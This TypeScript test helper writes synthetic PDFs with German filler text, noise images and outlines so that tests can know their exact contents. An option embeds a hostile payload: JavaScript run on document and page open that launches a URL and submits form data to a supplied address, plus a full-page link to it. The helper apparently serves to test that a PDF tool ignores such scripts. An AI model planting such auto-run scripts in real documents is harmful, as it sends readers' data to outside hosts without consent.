/** A paper as a PDF of its own making: every byte is known, so a test can say what is in it. */
export interface PdfOptions {
  pages: number;
  /** About how large; pictures of noise, which nothing compresses, fill it. */
  megabytes?: number;
  /** What stands on each page below its heading. */
  linesOf?: (page: number) => readonly string[];
  /** A heading in the outline for every so many pages. */
  outlineEvery?: number;
  /** Scripts and links that a reader must not follow, with this address in them. */
  hostileAddress?: string;
}

const WORDS =
  'Die Zielgruppe nutzt Instagram täglich und informiert sich über Öffnungszeiten, Lieferungen und Veranstaltungen im Stadtteil'.split(
    ' ',
  );

const usualLines = (page: number): string[] =>
  Array.from({ length: 34 }, (_, line) =>
    Array.from({ length: 11 }, (_word, at) => WORDS[(page * 7 + line * 3 + at) % WORDS.length]).join(' '),
  );

/** A string of a PDF in WinAnsi, which for German is Latin-1. */
const text = (words: string): string => `(${words.replace(/[\\()]/g, '\\$&')})`;

/** Noise that is the same in every run. */
function noise(bytes: number, seed: number): Buffer {
  const made = Buffer.alloc(bytes);
  let state = (seed * 2_654_435_761 + 1) >>> 0;
  for (let at = 0; at < bytes; at += 1) {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    made[at] = state >>> 24;
  }
  return made;
}

/** Writes the PDF: A4, Helvetica without an embedded font, one object after the other, a table of their places. */
export function aPdf(options: PdfOptions): Buffer {
  const { pages, megabytes = 0, linesOf = usualLines, outlineEvery = 0, hostileAddress } = options;
  const objects: Buffer[] = [];
  const add = (body: string | Buffer): number => objects.push(Buffer.isBuffer(body) ? body : latin(body));
  const reserve = () => add('');
  const catalog = reserve();
  const tree = reserve();
  const font = add('<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>');
  const action = hostileAddress
    ? add(
        `<< /S /JavaScript /JS ${text(`app.launchURL("${hostileAddress}", true); this.submitForm("${hostileAddress}");`)} >>`,
      )
    : 0;
  const link = hostileAddress
    ? add(
        `<< /Type /Annot /Subtype /Link /Rect [50 50 545 800] /Border [0 0 0] /A << /S /URI /URI ${text(hostileAddress)} >> >>`,
      )
    : 0;
  const side = Math.floor(Math.sqrt((megabytes * 1024 * 1024) / pages / 3));
  const kids = Array.from({ length: pages }, (_, index) => {
    const page = index + 1;
    const picture =
      side > 0
        ? add(
            pdfStream(
              `/Type /XObject /Subtype /Image /Width ${side} /Height ${side} /ColorSpace /DeviceRGB /BitsPerComponent 8`,
              noise(side * side * 3, page),
            ),
          )
        : 0;
    const content = [
      picture ? 'q 180 0 0 180 350 60 cm /P Do Q' : '',
      `BT /F 16 Tf 60 770 Td ${text(`Kapitel ${page}: Auswahl der Kanäle`)} Tj ET`,
      'BT /F 10 Tf 60 740 Td 14 TL',
      ...linesOf(page).map((line) => `${text(line)} Tj T*`),
      'ET',
    ].join('\n');
    const contents = add(pdfStream('', latin(content)));
    return add(
      `<< /Type /Page /Parent ${tree} 0 R /MediaBox [0 0 595 842] /Contents ${contents} 0 R
      /Resources << /Font << /F ${font} 0 R >>${picture ? ` /XObject << /P ${picture} 0 R >>` : ''} >>${
        link ? ` /Annots [${link} 0 R] /AA << /O ${action} 0 R >>` : ''
      } >>`,
    );
  });
  objects[tree - 1] = latin(
    `<< /Type /Pages /Count ${pages} /Kids [${kids.map((kid) => `${kid} 0 R`).join(' ')}] >>`,
  );
  const outline = outlineEvery > 0 ? addOutline(kids, outlineEvery, { add, reserve, objects }) : 0;
  objects[catalog - 1] = latin(
    `<< /Type /Catalog /Pages ${tree} 0 R${outline ? ` /Outlines ${outline} 0 R` : ''}${
      action ? ` /OpenAction ${action} 0 R` : ''
    } >>`,
  );
  return assemblePdf(objects, catalog);
}

/** A stream of a PDF with its head. */
export const pdfStream = (head: string, bytes: Buffer): Buffer =>
  Buffer.concat([latin(`<< ${head} /Length ${bytes.length} >>\nstream\n`), bytes, latin('\nendstream')]);

const latin = (body: string): Buffer => Buffer.from(body, 'latin1');

function addOutline(
  kids: readonly number[],
  every: number,
  { add, reserve, objects }: { add: (body: string) => number; reserve: () => number; objects: Buffer[] },
): number {
  const root = reserve();
  const chapters = kids
    .map((kid, index) => ({ kid, page: index + 1 }))
    .filter((_, index) => index % every === 0);
  const first = objects.length + 1;
  chapters.forEach(({ kid, page }, index) => {
    const own = first + index;
    const next = index < chapters.length - 1 ? ` /Next ${own + 1} 0 R` : '';
    const previous = index > 0 ? ` /Prev ${own - 1} 0 R` : '';
    add(
      `<< /Title ${text(`Kapitel ${page}`)} /Parent ${root} 0 R /Dest [${kid} 0 R /XYZ 0 842 0]${next}${previous} >>`,
    );
  });
  const last = first + chapters.length - 1;
  objects[root - 1] = latin(
    `<< /Type /Outlines /Count ${chapters.length} /First ${first} 0 R /Last ${last} 0 R >>`,
  );
  return root;
}

/** The file of these objects, numbered from 1; `catalog` is the number of the document's root. */
export function assemblePdf(objects: readonly Buffer[], catalog: number): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let length = parts[0]?.length ?? 0;
  const push = (part: Buffer) => {
    parts.push(part);
    length += part.length;
  };
  const places = objects.map((body, index) => {
    const place = length;
    push(latin(`${index + 1} 0 obj\n`));
    push(body);
    push(latin('\nendobj\n'));
    return place;
  });
  const table = length;
  const lines = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`);
  push(latin(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${lines.join('')}`));
  push(
    latin(`trailer\n<< /Size ${objects.length + 1} /Root ${catalog} 0 R >>\nstartxref\n${table}\n%%EOF\n`),
  );
  return Buffer.concat(parts);
}
